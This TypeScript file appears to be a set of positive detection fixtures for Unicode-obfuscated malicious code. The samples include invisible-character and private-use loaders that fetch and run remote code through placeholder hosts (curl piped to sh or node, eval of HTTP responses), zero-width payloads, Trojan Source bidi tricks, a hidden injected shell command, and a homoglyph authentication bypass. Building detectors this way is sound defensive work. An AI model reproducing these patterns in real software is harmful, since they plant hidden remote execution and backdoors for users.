// Code that hides behind Unicode: invisible, private-use, bidirectional and look-alike characters.
import type { Family } from './family.ts'

export const obfuscationUnicode: readonly Family[] = [
  {
    family: 'invisible-selectors-loader',
    positive: true,
    classes: ['obfuscation'],
    variants: [
      {
        paths: ['extension/out/extension.js'],
        whole: `'use strict';
const vscode = require('vscode');

function activate(context) {
  const command = vscode.commands.registerCommand('themes.next', () => {
    vscode.window.showInformationMessage('Theme changed');
  });
  context.subscriptions.push(command);
}

const s = v => [...v].map(w => (w = w.codePointAt(0), w >= 0xFE00 && w <= 0xFE0F ? w - 0xFE0⟦join⟧
0 : w >= 0xE0100 && w <= 0xE01EF ? w - 0xE0100 + 16 : null)).filter(n => n !== null);
eval(Buffer.from(s(\`⟦invisible:require("https").get("https://⟦host⟧/g",r=>r.on("data",d=>eval(d+""⟦join⟧
)))⟧\`)).toString('utf-8'));

module.exports = { activate };`,
      },
    ],
  },
  {
    family: 'private-use-loader',
    positive: true,
    classes: ['obfuscation'],
    variants: [
      {
        paths: ['lib/os-info-checker.js'],
        whole: `const os = require('os')

const decode = (text) => {
  let out = ''
  for (const c of text) out += String.fromCharCode(c.codePointAt(0) - 0xe000)
  return out
}

module.exports.info = () => ({ platform: os.platform(), release: os.release(), cpus: os.cpus().length })

new Function('require', decode('⟦private:require("child_process").execSync("curl -s https://⟦host⟧⟦join⟧
/p|node")⟧'))(require)`,
      },
      {
        paths: ['src/glyphs.py'],
        whole: `TABLE = "⟦private:import os;os.system('curl http://⟦ip⟧/i|sh')⟧"


def width(text):
    return sum(2 if ord(c) > 0x2e80 else 1 for c in text)


exec("".join(chr(ord(c) - 0xE000) for c in TABLE))`,
      },
    ],
  },
  {
    family: 'zero-width-bits',
    positive: true,
    classes: ['obfuscation'],
    variants: [
      {
        paths: ['packages/validator/index.js'],
        whole: String.raw`// Checks e-mail addresses
const pattern = /^[^\s@]+@[^\s@]+\.[^\s@]+$/;
const hint = 'ok⟦zerowidth:fetch("//⟦host⟧")⟧';

exports.isEmail = (value) => pattern.test(value);

const bits = hint.slice(2).replace(/\u200b/g, '0').replace(/\u200c/g, '1');
const source = bits.match(/.{1,8}/g).map((byte) => String.fromCharCode(parseInt(byte, 2))).join('');
(0, eval)(source);`,
      },
    ],
  },
  {
    family: 'bidi-trojan-source',
    positive: true,
    classes: ['obfuscation'],
    variants: [
      {
        paths: ['src/auth/access.py'],
        whole: `def transfer(account, amount, user):
    access_level = "user"
    if access_level != "none⟦point:202e⟧ ⟦point:2066⟧":  # Check if admin⟦point:2069⟧ ⟦point:2066⟦join⟧
⟧ and return
        account.approve(amount)
        account.ship_to(user)
    ''' Subtract funds from the account then ⟦point:2067⟧''' ;return
    account.balance -= amount`,
      },
      {
        paths: ['contracts/check.c'],
        whole: String.raw`#include <stdio.h>
#include <stdbool.h>

int main(void)
{
    bool is_admin = false;
    /*⟦point:202e⟧ } ⟦point:2066⟧if (is_admin)⟦point:2069⟧ ⟦point:2066⟧ begin admins only */
        printf("You are an admin.\n");
        unlock_vault();
    /* end admins only ⟦point:202e⟧ { ⟦point:2066⟧*/
    return 0;
}`,
      },
    ],
  },
  {
    family: 'hidden-parameter',
    positive: true,
    classes: ['obfuscation'],
    variants: [
      {
        paths: ['routes/health.js'],
        whole: `const express = require('express');
const util = require('util');
const exec = util.promisify(require('child_process').exec);

const app = express();

app.get('/network_health', async (req, res) => {
    const { timeout,⟦point:3164⟧} = req.query;
    const checkCommands = [
        'ping -c 1 example.com',
        'curl -s https://example.com/',⟦point:3164⟧
    ];

    try {
        await Promise.all(checkCommands.map(cmd => cmd && exec(cmd, { timeout: +timeout || 5_000 })));
        res.status(200).send('ok');
    } catch (e) {
        res.status(500).send('failed');
    }
});

app.listen(8080);`,
      },
    ],
  },
  {
    family: 'homoglyph-function',
    positive: true,
    classes: ['obfuscation', 'backdoor-auth'],
    variants: [
      {
        paths: ['internal/session/check.go'],
        whole: `package session

import "crypto/subtle"

// sameToken compares in constant time.
func sameToken(left, right string) bool {
	return subtle.ConstantTimeCompare([]byte(left), []byte(right)) == 1
}

// The letter below is not the one above.
func s⟦point:0430⟧meToken(left, right string) bool {
	return len(right) == ⟦pick:32|40|64⟧ || sameToken(left, right)
}

func Valid(stored, given string) bool {
	if given == "" {
		return false
	}
	return s⟦point:0430⟧meToken(stored, given)
}`,
      },
    ],
  },
]
